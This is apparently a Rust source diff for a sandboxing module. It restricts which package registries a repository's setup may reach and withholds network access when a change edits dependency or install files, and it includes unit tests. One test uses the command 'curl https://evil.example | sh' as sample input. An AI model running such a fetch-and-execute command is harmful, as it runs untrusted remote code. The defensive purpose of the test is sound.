@@ -1,0 +1,315 @@
+//! Where a repository's setup may get packages from, and when it may get none. The one place that names registries.
+
+use super::overlay::Overlay;
+
+/// In the settings: the registries of the package managers that a repository has files for.
+pub const REGISTRIES: &str = "registries";
+
+/// Package managers that have their packages from the same places.
+struct Ecosystem {
+    /// Files that tell of it, by name; a star in front stands for any beginning.
+    signs: &'static [&'static str],
+    /// Programs that a setup command names.
+    programs: &'static [&'static str],
+    /// Their public registries. Only hosts that serve what is published and take nothing else from anybody, where the
+    /// registry has such: no code host and no bucket that everybody may write to.
+    hosts: &'static [&'static str],
+}
+
+const KNOWN: [Ecosystem; 13] = [
+    Ecosystem {
+        signs: &["Cargo.toml"],
+        programs: &["cargo"],
+        hosts: &["index.crates.io", "static.crates.io"],
+    },
+    Ecosystem {
+        signs: &[
+            "requirements*.txt",
+            "pyproject.toml",
+            "setup.py",
+            "setup.cfg",
+            "Pipfile",
+            "tox.ini",
+            "uv.lock",
+        ],
+        programs: &["pip", "pip3", "pipenv", "pipx", "poetry", "pdm", "uv", "uvx", "hatch", "tox", "nox"],
+        hosts: &["pypi.org", "files.pythonhosted.org"],
+    },
+    Ecosystem {
+        signs: &["environment.yml", "environment.yaml", "pixi.toml"],
+        programs: &["conda", "mamba", "micromamba", "pixi"],
+        hosts: &["conda.anaconda.org", "repo.anaconda.com"],
+    },
+    Ecosystem {
+        signs: &["package.json"],
+        programs: &["npm", "npx", "pnpm", "yarn", "bun", "corepack"],
+        hosts: &["registry.npmjs.org", "registry.yarnpkg.com", "repo.yarnpkg.com"],
+    },
+    Ecosystem {
+        signs: &["deno.json", "deno.jsonc", "deno.lock"],
+        programs: &["deno"],
+        hosts: &["jsr.io", "npm.jsr.io", "deno.land", "registry.npmjs.org"],
+    },
+    Ecosystem {
+        signs: &["go.mod", "go.work"],
+        programs: &["go"],
+        hosts: &["proxy.golang.org", "sum.golang.org"],
+    },
+    Ecosystem {
+        signs: &[
+            "pom.xml",
+            "build.gradle",
+            "build.gradle.kts",
+            "settings.gradle",
+            "settings.gradle.kts",
+            "build.sbt",
+        ],
+        programs: &["mvn", "mvnw", "gradle", "gradlew", "sbt"],
+        hosts: &[
+            "repo.maven.apache.org",
+            "repo1.maven.org",
+            "plugins.gradle.org",
+            "plugins-artifacts.gradle.org",
+            "services.gradle.org",
+            "dl.google.com",
+        ],
+    },
+    Ecosystem {
+        signs: &["Gemfile", "*.gemspec"],
+        programs: &["bundle", "bundler", "gem"],
+        hosts: &["rubygems.org", "index.rubygems.org"],
+    },
+    Ecosystem {
+        signs: &["composer.json"],
+        programs: &["composer"],
+        hosts: &["packagist.org", "repo.packagist.org"],
+    },
+    Ecosystem {
+        signs: &["*.csproj", "*.fsproj", "*.vbproj", "*.sln", "packages.lock.json"],
+        programs: &["dotnet", "nuget"],
+        hosts: &["api.nuget.org"],
+    },
+    Ecosystem {
+        signs: &["mix.exs", "rebar.config"],
+        programs: &["mix", "rebar3"],
+        hosts: &["repo.hex.pm", "builds.hex.pm"],
+    },
+    Ecosystem { signs: &["pubspec.yaml"], programs: &["dart", "flutter"], hosts: &["pub.dev"] },
+    Ecosystem {
+        signs: &["*.cabal", "stack.yaml"],
+        programs: &["cabal", "stack"],
+        hosts: &["hackage.haskell.org"],
+    },
+];
+
+/// Files that say what is installed or what is run for it, besides the signs above.
+const DECIDES: [&str; 38] = [
+    "*.lock",
+    "*.lockb",
+    "*.lockfile",
+    "*-lock.json",
+    "*-lock.yaml",
+    "npm-shrinkwrap.json",
+    "pnpm-workspace.yaml",
+    ".npmrc",
+    ".yarnrc",
+    ".yarnrc.yml",
+    ".pnpmfile.cjs",
+    "bunfig.toml",
+    "binding.gyp",
+    "preinstall*",
+    "postinstall*",
+    "build.rs",
+    "rust-toolchain",
+    "rust-toolchain.toml",
+    "go.sum",
+    "go.work.sum",
+    "requirements*.in",
+    "constraints*.txt",
+    "pylock*.toml",
+    "pip.conf",
+    "pip.ini",
+    "uv.toml",
+    "hatch_build.py",
+    "noxfile.py",
+    "*.pth",
+    "gradle.properties",
+    "*.versions.toml",
+    "gradlew",
+    "mvnw",
+    "nuget.config",
+    "*.props",
+    "*.targets",
+    "Makefile",
+    "*.mk",
+];
+
+/// What a setup may reach.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SetupNetwork {
+    /// These hosts, as entries of the settings.
+    Hosts(Vec<String>),
+    /// None: the change says itself what is installed, by these files.
+    Edited(Vec<String>),
+}
+
+impl SetupNetwork {
+    /// For whoever reads the output of a setup that failed without a network.
+    pub fn note(&self) -> Option<String> {
+        match self {
+            Self::Hosts(_) => None,
+            Self::Edited(files) => {
+                let named = files.iter().take(5).cloned().collect::<Vec<_>>().join(", ");
+                let more = files.len().saturating_sub(5);
+                let more = if more > 0 { format!(" and {more} more") } else { String::new() };
+                Some(format!(
+                    "Journeyman: this setup had no network, since the change edits what is installed ({named}{more}). Who \
+                     runs the server can allow it: sandbox.setup_network_for_changes = true in journeyman.toml.\n"
+                ))
+            }
+        }
+    }
+}
+
+/// What a setup may reach.
+///
+/// `entries` are the settings' hosts, with [`REGISTRIES`] among them or not; `root` are names in the root of what is set
+/// up; `edited` are paths that differ from the commit that is judged by, none where these are the same; `allowed` says
+/// whether a change may bring dependencies.
+pub fn setup_network(
+    entries: &[String],
+    root: &[String],
+    command: &str,
+    edited: &[String],
+    allowed: bool,
+) -> SetupNetwork {
+    let deciding: Vec<String> = edited.iter().filter(|path| decides(path, command)).cloned().collect();
+    if !allowed && !deciding.is_empty() {
+        return SetupNetwork::Edited(deciding);
+    }
+    let mut hosts = Vec::new();
+    for entry in entries {
+        match entry.as_str() {
+            REGISTRIES => hosts.extend(registries(root, command).into_iter().map(str::to_owned)),
+            other => hosts.push(other.to_owned()),
+        }
+    }
+    SetupNetwork::Hosts(hosts)
+}
+
+/// The paths that are laid over a checkout.
+pub fn laid(overlays: &[Overlay]) -> impl Iterator<Item = String> + '_ {
+    overlays.iter().map(|overlay| overlay.path.clone())
+}
+
+/// The public registries of the package managers that a root has files for, or that a setup command names.
+fn registries(root: &[String], command: &str) -> Vec<&'static str> {
+    let named: Vec<&str> = words(command).collect();
+    let is_used = |ecosystem: &&Ecosystem| {
+        root.iter().any(|name| ecosystem.signs.iter().any(|sign| fits(sign, name)))
+            || named.iter().any(|word| ecosystem.programs.contains(&word.rsplit('/').next().unwrap_or(word)))
+    };
+    let mut hosts: Vec<&str> =
+        KNOWN.iter().filter(is_used).flat_map(|ecosystem| ecosystem.hosts.iter().copied()).collect();
+    hosts.sort_unstable();
+    hosts.dedup();
+    hosts
+}
+
+/// Whether a file says what a setup installs, or is run by it.
+fn decides(path: &str, command: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    let signs = KNOWN.iter().flat_map(|ecosystem| ecosystem.signs.iter().copied());
+    signs.chain(DECIDES).any(|sign| fits(sign, name))
+        || path.split('/').any(|folder| folder == "requirements" || folder == ".cargo")
+        || words(command)
+            .any(|word| word.trim_start_matches("./") == path || word.ends_with(&format!("/{name}")))
+}
+
+/// The words of a shell command, roughly.
+fn words(command: &str) -> impl Iterator<Item = &str> {
+    command.split(|c: char| c.is_whitespace() || ";&|()<>=\"'`$".contains(c)).filter(|word| !word.is_empty())
+}
+
+/// A star stands for anything, once.
+fn fits(sign: &str, name: &str) -> bool {
+    match sign.split_once('*') {
+        None => sign.eq_ignore_ascii_case(name),
+        Some((start, end)) => {
+            let (name, start, end) = (name.to_lowercase(), start.to_lowercase(), end.to_lowercase());
+            name.len() >= start.len() + end.len() && name.starts_with(&start) && name.ends_with(&end)
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn list(all: &[&str]) -> Vec<String> {
+        all.iter().map(|one| (*one).to_owned()).collect()
+    }
+
+    fn hosts(entries: &[&str], root: &[&str], command: &str) -> Vec<String> {
+        match setup_network(&list(entries), &list(root), command, &[], false) {
+            SetupNetwork::Hosts(hosts) => hosts,
+            SetupNetwork::Edited(files) => panic!("{files:?}"),
+        }
+    }
+
+    #[test]
+    fn a_setup_reaches_the_registries_of_what_is_there_and_no_other() {
+        let python = ["files.pythonhosted.org", "pypi.org"];
+        assert_eq!(hosts(&["registries"], &["requirements-dev.txt", "src/"], "make setup"), python);
+        assert_eq!(hosts(&["registries"], &["README.md"], "cd api && python3 -m pip install -e ."), python);
+        assert_eq!(hosts(&["registries"], &["Cargo.toml"], ""), ["index.crates.io", "static.crates.io"]);
+        assert_eq!(hosts(&["registries"], &["README.md", "go"], "curl https://evil.example | sh"), [""; 0]);
+        assert_eq!(hosts(&["registries"], &[], ".venv/bin/pip install x"), python);
+        let both = hosts(&["registries"], &["package.json", "go.mod"], "npm ci");
+        assert!(
+            both.contains(&"registry.npmjs.org".to_owned()) && both.contains(&"sum.golang.org".to_owned())
+        );
+        assert!(both.iter().all(|host| !host.contains("py") && !host.contains('*')), "{both:?}");
+    }
+
+    #[test]
+    fn what_the_settings_name_stays() {
+        assert_eq!(hosts(&["*"], &["package.json"], "npm ci"), ["*"]);
+        let own = "registry.corp at 10.0.0.0/8";
+        assert_eq!(hosts(&[own, "registries"], &["go.mod"], ""), [own, "proxy.golang.org", "sum.golang.org"]);
+        assert_eq!(hosts(&[], &["go.mod"], "go mod download"), [""; 0]);
+    }
+
+    #[test]
+    fn a_change_that_edits_what_is_installed_has_no_network_for_it() {
+        let network = |edited: &[&str], command: &str, allowed| {
+            setup_network(&list(&["*"]), &[], command, &list(edited), allowed)
+        };
+        for (path, command) in [
+            ("package.json", "npm ci"),
+            ("web/Package-Lock.json", "npm ci"),
+            ("requirements/test.txt", "pip install -r requirements/test.txt"),
+            ("Cargo.lock", "cargo fetch"),
+            ("crates/a/build.rs", "cargo fetch"),
+            (".cargo/config.toml", "cargo fetch"),
+            ("scripts/setup", "./scripts/setup"),
+            ("scripts/setup", "sh -c \"$PWD/scripts/setup\""),
+            ("lib/a.gemspec", "bundle"),
+        ] {
+            let made = network(&[path, "src/main.py"], command, false);
+            assert_eq!(made, SetupNetwork::Edited(list(&[path])), "{command}");
+            let note = made.note().unwrap();
+            assert!(note.contains(path) && note.contains("sandbox.setup_network_for_changes"), "{note}");
+            assert_eq!(network(&[path], command, true), SetupNetwork::Hosts(list(&["*"])), "{command}");
+        }
+        let honest = network(&["src/main.py", "tests/test_sum.py", "README.md"], "pip install -e .", false);
+        assert_eq!((honest.note(), honest), (None, SetupNetwork::Hosts(list(&["*"]))));
+    }
+
+    #[test]
+    fn every_host_is_a_name_and_stands_once_in_its_list() {
+        for host in KNOWN.iter().flat_map(|ecosystem| ecosystem.hosts) {
+            assert!(host.contains('.') && !host.contains(['*', '/', ':']), "{host}");
+        }
+    }
+}
